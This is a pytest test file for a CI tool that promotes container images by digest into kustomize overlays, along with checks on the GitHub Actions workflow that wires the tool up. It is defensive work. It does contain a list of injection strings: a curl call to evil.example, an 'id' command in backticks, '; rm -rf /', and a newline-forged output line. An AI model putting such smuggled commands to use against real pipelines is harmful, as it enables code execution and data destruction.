"""Image promotion: the services' CI hands a domain's new image, by digest, to the cluster.

tools/ci/promote_image.py validates and edits; .github/workflows/promote.yml wires it with the least
privilege and opens the pull request (or commits to a tracked dev branch), its JavaScript run
against the fake GitHub API of tools/ci/github_script_harness.cjs.
"""

from __future__ import annotations

import base64
import difflib
import os
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.support.paths import ROOT
from tests.support.prereqs import require_tool
from tests.support.workflows import WF, jobs, run_github_script, steps
from tools.ci import promote_image as p

DIGEST = "sha256:" + "0123456789abcdef" * 4
OTHER_DIGEST = "sha256:" + "f" * 64
AUTH_REPO = "ghcr.io/example-org/gitops-cluster/auth-api"
DOMAINS = p.domains(ROOT)


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A copy of what the tool reads and writes: manifests/ and the stack files."""
    shutil.copytree(ROOT / "manifests", tmp_path / "manifests")
    for stack_file in ROOT.glob("Pulumi*.yaml"):
        shutil.copy(stack_file, tmp_path / stack_file.name)
    return tmp_path


def changed_lines(before: str, after: str) -> list[str]:
    diff = difflib.unified_diff(before.splitlines(), after.splitlines(), lineterm="", n=0)
    return [line for line in diff if line[:1] in "+-" and not line.startswith(("+++", "---"))]


def test_the_domains_are_the_seven_overlays() -> None:
    assert DOMAINS == ("auth", "my", "scan", "character", "location", "info", "chat")
    options = WF["promote"]["on"]["workflow_dispatch"]["inputs"]["domain"]["options"]
    assert options == list(DOMAINS)


# --- refusals, each with its message --------------------------------------------------------------


@pytest.mark.parametrize(
    ("domain", "image", "message"),
    [
        (
            "auth",
            f"{AUTH_REPO}:1.4.2",
            f"image '{AUTH_REPO}:1.4.2' has no digest; promote by digest, <registry>/<repository>@sha256:<64 hex> "
            "(a tag can be moved to other content, a digest cannot)",
        ),
        (
            "auth",
            f"{AUTH_REPO}@sha256:abc",
            f"image '{AUTH_REPO}@sha256:abc' has digest 'sha256:abc'; expected sha256: followed by 64 lowercase hex "
            "digits",
        ),
        (
            "payments",
            f"{AUTH_REPO}@{DIGEST}",
            "domain 'payments' is not one of auth, my, scan, character, location, info, chat; pass the domain's "
            "overlay name",
        ),
        (
            "auth",
            f"docker.io/evil/auth-api@{DIGEST}",
            f"image 'docker.io/evil/auth-api@{DIGEST}' is not from an allowed registry (ghcr.io/example-org/); push "
            "it there (or extend ALLOWED_REGISTRIES in tools/ci/promote_image.py by a reviewed PR)",
        ),
        (
            "auth",
            f"ghcr.io/example-org.evil.com/auth-api@{DIGEST}",
            f"image 'ghcr.io/example-org.evil.com/auth-api@{DIGEST}' is not from an allowed registry "
            "(ghcr.io/example-org/); push it there (or extend ALLOWED_REGISTRIES in tools/ci/promote_image.py by a "
            "reviewed PR)",
        ),
        (
            "auth",
            f"ghcr.io/example-org/gitops-cluster/chat-api@{DIGEST}",
            f"image 'ghcr.io/example-org/gitops-cluster/chat-api@{DIGEST}' is not the auth service's image: its "
            "repository must end in '/auth-api'",
        ),
        (
            "auth",
            "ghcr.io/example-org/auth-api",
            "image 'ghcr.io/example-org/auth-api' has no digest; promote by digest, "
            "<registry>/<repository>@sha256:<64 hex> (a tag can be moved to other content, a digest cannot)",
        ),
        (
            "auth",
            "Ghcr.io//x@@y",
            "image 'Ghcr.io//x@@y' is not an image reference; expected <registry>/<repository>@sha256:<64 hex>",
        ),
    ],
)
def test_refusals_say_what_is_wrong(domain: str, image: str, message: str) -> None:
    with pytest.raises(p.PromotionRefusedError) as info:
        p.parse_image(domain, image, DOMAINS)
    assert str(info.value) == message


INJECTIONS = [
    f"{AUTH_REPO}@{DIGEST}$(curl evil.example)",
    f"{AUTH_REPO}@{DIGEST}`id`",
    f"{AUTH_REPO}@{DIGEST}; rm -rf /",
    f"{AUTH_REPO}@{DIGEST}\nchanged=false",
    "${{ github.token }}",
    f"{AUTH_REPO}@{DIGEST}' || true '",
    f'{AUTH_REPO}@{DIGEST}"',
]


@pytest.mark.parametrize("image", INJECTIONS)
def test_injection_attempts_are_refused_before_anything_else(image: str) -> None:
    with pytest.raises(p.PromotionRefusedError) as info:
        p.parse_image("auth", image, DOMAINS)
    assert str(info.value) == (
        f"image {image!r} contains characters an image reference never has (quotes, $, `, ;, spaces, newlines, "
        "braces); refused"
    )
    assert "\n" not in str(info.value)  # repr() keeps a newline from forging a line in logs or outputs


def test_a_crafted_domain_is_refused_without_touching_a_file(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    before = {f: f.read_text() for f in (repo / "manifests").rglob("*.yaml")}
    out = repo / "out"
    assert p.main(["--root", str(repo), "--domain", "auth/../../x", "--image", f"{AUTH_REPO}@{DIGEST}",
                   "--github-output", str(out)]) == 2  # fmt: skip
    assert "domain 'auth/../../x' is not one of" in capsys.readouterr().err
    assert {f: f.read_text() for f in (repo / "manifests").rglob("*.yaml")} == before
    assert not out.exists()


# --- the edit ---------------------------------------------------------------------------------------


def test_valid_input_is_exactly_a_one_line_overlay_change(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    overlay = repo / "manifests/services/auth/kustomization.yaml"
    before = overlay.read_text(encoding="utf-8")
    others = {d: (repo / f"manifests/services/{d}/kustomization.yaml").read_text() for d in DOMAINS if d != "auth"}
    out = repo / "github-output"
    assert p.main(["--root", str(repo), "--domain", "auth", "--image", f"{AUTH_REPO}@{DIGEST}",
                   "--github-output", str(out)]) == 0  # fmt: skip
    after = overlay.read_text(encoding="utf-8")
    assert changed_lines(before, after) == ["-    newTag: 0.1.0", f"+    digest: {DIGEST}"]
    assert {d: (repo / f"manifests/services/{d}/kustomization.yaml").read_text() for d in others} == others
    printed = capsys.readouterr().out
    assert f"+    digest: {DIGEST}" in printed
    assert out.read_text(encoding="utf-8") == (
        "changed=true\n"
        "overlay=manifests/services/auth/kustomization.yaml\n"
        "branch=promote/auth-0123456789ab\n"
        f"title=Promote auth to {AUTH_REPO}@sha256:0123456789ab\n"
        f"image={AUTH_REPO}@{DIGEST}\n"
        "direct-branch=\n"
    )

    # The next promotion replaces the digest: again one line; the same digest again changes nothing.
    assert p.main(["--root", str(repo), "--domain", "auth", "--image", f"{AUTH_REPO}@{OTHER_DIGEST}"]) == 0
    assert changed_lines(after, overlay.read_text()) == [f"-    digest: {DIGEST}", f"+    digest: {OTHER_DIGEST}"]
    capsys.readouterr()
    assert p.main(["--root", str(repo), "--domain", "auth", "--image", f"{AUTH_REPO}@{OTHER_DIGEST}"]) == 0
    assert "already runs" in capsys.readouterr().out


def test_a_new_repository_changes_the_name_line_too() -> None:
    text = (ROOT / "manifests/services/chat/kustomization.yaml").read_text(encoding="utf-8")
    image = p.Image("ghcr.io/example-org/chat-api", DIGEST)
    assert changed_lines(text, p.edit_overlay(text, image)) == [
        "-    newName: ghcr.io/example-org/gitops-cluster/chat-api",
        "-    newTag: 0.1.0",
        "+    newName: ghcr.io/example-org/chat-api",
        f"+    digest: {DIGEST}",
    ]


def test_tag_and_digest_together_keep_only_the_digest() -> None:
    image = p.parse_image("auth", f"{AUTH_REPO}:1.4.2@{DIGEST}", DOMAINS)
    assert image == p.Image(AUTH_REPO, DIGEST)


@pytest.mark.parametrize(
    ("overlay", "message"),
    [
        ("resources: [../base]\n", "no top-level `images:` list"),
        ("images:\n  - name: other\n    newTag: 1.0.0\n", "has no entry `- name: domain-api`"),
        (
            "images:\n  - name: domain-api\n    newTag: 1.0.0\n  - name: domain-api\n    newTag: 2.0.0\n",
            "expected exactly one `domain-api` entry under `images:`, found 2",
        ),
        (
            # A folded newName spans two lines; replacing one of them would corrupt it.
            "images:\n  - name: domain-api\n    newName: >-\n      ghcr.io/example-org/x/auth-api\n    newTag: 1.0.0\n",
            "did not produce the intended document",
        ),
    ],
)
def test_an_overlay_in_another_shape_is_refused(overlay: str, message: str) -> None:
    with pytest.raises(p.OverlayError, match=re.escape(message)):
        p.edit_overlay(overlay, p.Image(AUTH_REPO, DIGEST))


def test_kustomize_renders_the_promoted_image(repo: Path) -> None:
    kubectl = require_tool("kubectl", "kubectl with its built-in kustomize; .ci/run installs it")
    assert p.main(["--root", str(repo), "--domain", "scan", "--image",
                   f"ghcr.io/example-org/gitops-cluster/scan-api@{DIGEST}"]) == 0  # fmt: skip
    out = subprocess.run(
        [kubectl, "kustomize", str(repo / "manifests/services")], capture_output=True, text=True, check=True
    )
    images = {
        d["metadata"]["namespace"]: d["spec"]["template"]["spec"]["containers"][0]["image"]
        for d in yaml.safe_load_all(out.stdout)
        if d and d["kind"] == "Deployment"
    }
    assert images["scan"] == f"ghcr.io/example-org/gitops-cluster/scan-api@{DIGEST}"
    # Placeholders stay placeholders until promoted.
    assert images["auth"] == f"{AUTH_REPO}:0.1.0"


def test_direct_commits_only_to_a_branch_a_development_stack_tracks(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert p.direct_branch_problem("main", repo) is None  # Pulumi.dev.yaml tracks main
    assert p.direct_branch_problem("release", repo) == (
        "direct promotion to 'release' refused: only a branch a development stack tracks may take it (main); "
        "unset PROMOTION_DIRECT_BRANCH to open a PR"
    )
    args = ["--root", str(repo), "--domain", "auth", "--image", f"{AUTH_REPO}@{DIGEST}"]
    assert p.main([*args, "--direct-branch", "release"]) == 2
    assert "direct promotion to 'release' refused" in capsys.readouterr().err
    out = repo / "out"
    assert p.main([*args, "--direct-branch", "main", "--github-output", str(out)]) == 0
    assert out.read_text().endswith("direct-branch=main\n")


# --- the workflow -------------------------------------------------------------------------------


def test_the_workflow_triggers_privileges_and_inputs() -> None:
    wf = WF["promote"]
    assert set(wf["on"]) == {"workflow_dispatch", "repository_dispatch"}
    assert wf["on"]["repository_dispatch"] == {"types": ["promote-image"]}
    assert wf["on"]["workflow_dispatch"]["inputs"]["image"]["type"] == "string"
    assert wf["permissions"] == {}
    assert wf["concurrency"] == {"group": "promote-image", "cancel-in-progress": False}
    job = jobs(wf)["promote"]
    assert job["permissions"] == {"contents": "write", "pull-requests": "write"}
    setup = next(s for s in steps(job) if str(s.get("uses", "")).startswith("./.github/actions/setup-project"))
    assert setup["with"]["cache"] == "false"
    edit = next(s for s in steps(job) if s.get("id") == "edit")
    assert edit["env"]["DOMAIN"] == "${{ inputs.domain || github.event.client_payload.domain }}"
    assert edit["env"]["IMAGE"] == "${{ inputs.image || github.event.client_payload.image }}"
    tests = next(s for s in steps(job) if "pytest tests/manifests/test_manifests.py" in str(s.get("run", "")))
    assert tests["if"] == "steps.edit.outputs.changed == 'true'"
    names = [s.get("name") for s in steps(job)]
    assert names.index(tests["name"]) < names.index("Open the pull request (or commit to the tracked branch)")


def test_promotions_run_only_from_the_default_branch() -> None:
    # A guard job the promotion waits for, and an environment whose deployment branch rule (set in
    # the repository, where a writer's branch cannot edit it) admits only the default branch.
    wf = jobs(WF["promote"])
    guard = wf["default-branch"]
    assert guard["permissions"] == {}
    assert wf["promote"]["needs"] == "default-branch"
    assert wf["promote"]["environment"] == "promotion"
    [step] = steps(guard)
    env = {"PATH": os.environ["PATH"], "DEFAULT_BRANCH": "main"}
    assert step["env"]["REF"] == "${{ github.ref }}"
    ok = subprocess.run(
        ["bash", "-c", step["run"]], env={**env, "REF": "refs/heads/main"}, capture_output=True, text=True
    )
    assert ok.returncode == 0, ok.stdout
    for ref in ("refs/heads/writers-branch", "refs/heads/main-2", "refs/tags/v1", "refs/pull/7/merge"):
        proc = subprocess.run(["bash", "-c", step["run"]], env={**env, "REF": ref}, capture_output=True, text=True)
        assert proc.returncode == 1, ref
        assert f"promotions run only from the default branch (main), not {ref}" in proc.stdout


def test_no_expression_reaches_a_script() -> None:
    # Inputs only through env: no ${{ }} inside any run: or script: of this workflow.
    for step in steps(jobs(WF["promote"])["promote"]):
        for text in (step.get("run"), (step.get("with") or {}).get("script")):
            if text is not None:
                assert "${{" not in str(text), step.get("name")


OVERLAY = "manifests/services/auth/kustomization.yaml"
NEW_OVERLAY = f"images:\n  - name: domain-api\n    newName: {AUTH_REPO}\n    digest: {DIGEST}\n"
PROMOTE_ENV = {
    "OVERLAY": OVERLAY,
    "BRANCH": "promote/auth-0123456789ab",
    "TITLE": f"Promote auth to {AUTH_REPO}@sha256:0123456789ab",
    "IMAGE": f"{AUTH_REPO}@{DIGEST}",
    "DIRECT_BRANCH": "",
    "BASE_BLOB": "b" * 40,
    "RUN_URL": "https://run/11",
    "GITHUB_SHA": "a" * 40,
}


def _api(**extra: Any) -> dict[str, Any]:
    return {
        "git.createRef": {"data": {}},
        "repos.createOrUpdateFileContents": {"data": {}},
        "repos.get": {"data": {"default_branch": "main"}},
        "pulls.create": {"data": {"number": 77}},
        **extra,
    }


def test_the_workflow_opens_a_pull_request_from_the_tested_commit() -> None:
    run = run_github_script("promote", "promote", PROMOTE_ENV, _api(), files={OVERLAY: NEW_OVERLAY})
    assert run.failed is None, run.error
    assert [c["method"] for c in run.calls] == [
        "git.createRef",
        "repos.createOrUpdateFileContents",
        "repos.get",
        "pulls.create",
    ]
    [ref] = run.called("git.createRef")
    assert ref == {"owner": "example-org", "repo": "gitops-cluster", "ref": "refs/heads/promote/auth-0123456789ab",
                   "sha": "a" * 40}  # fmt: skip
    [put] = run.called("repos.createOrUpdateFileContents")
    assert (put["path"], put["branch"], put["sha"]) == (OVERLAY, "promote/auth-0123456789ab", "b" * 40)
    assert base64.b64decode(put["content"]).decode() == NEW_OVERLAY
    assert put["message"].startswith(PROMOTE_ENV["TITLE"] + "\n\n")
    [pr] = run.called("pulls.create")
    assert (pr["base"], pr["head"], pr["title"]) == ("main", "promote/auth-0123456789ab", PROMOTE_ENV["TITLE"])
    assert run.outputs == {"result": "opened", "pull-request": "77"}


def test_the_workflow_commits_to_a_configured_tracked_branch() -> None:
    env = {**PROMOTE_ENV, "DIRECT_BRANCH": "main"}
    run = run_github_script("promote", "promote", env, _api(), files={OVERLAY: NEW_OVERLAY})
    assert [c["method"] for c in run.calls] == ["repos.createOrUpdateFileContents"]
    [put] = run.called("repos.createOrUpdateFileContents")
    assert (put["branch"], put["sha"]) == ("main", "b" * 40)
    assert run.outputs == {"result": "committed"}


def test_the_same_digest_twice_does_not_open_a_second_pull_request() -> None:
    api = _api(**{"git.createRef": {"status": 422, "message": "Reference already exists"}})
    run = run_github_script("promote", "promote", PROMOTE_ENV, api, files={OVERLAY: NEW_OVERLAY})
    assert run.failed is None, run.error
    assert [c["method"] for c in run.calls] == ["git.createRef"]
    assert run.outputs == {"result": "exists"}


def test_any_other_api_error_fails_the_promotion() -> None:
    api = _api(**{"git.createRef": {"status": 403, "message": "Resource not accessible by integration"}})
    run = run_github_script("promote", "promote", PROMOTE_ENV, api, files={OVERLAY: NEW_OVERLAY})
    assert run.failed == "Resource not accessible by integration"
    assert [c["method"] for c in run.calls] == ["git.createRef"]


def test_a_tag_and_an_old_digest_become_one_digest_line() -> None:
    text = f"images:\n  - name: domain-api\n    newName: {AUTH_REPO}\n    newTag: 1.0.0\n    digest: {OTHER_DIGEST}\n"
    assert p.edit_overlay(text, p.Image(AUTH_REPO, DIGEST)) == (
        f"images:\n  - name: domain-api\n    newName: {AUTH_REPO}\n    digest: {DIGEST}\n"
    )
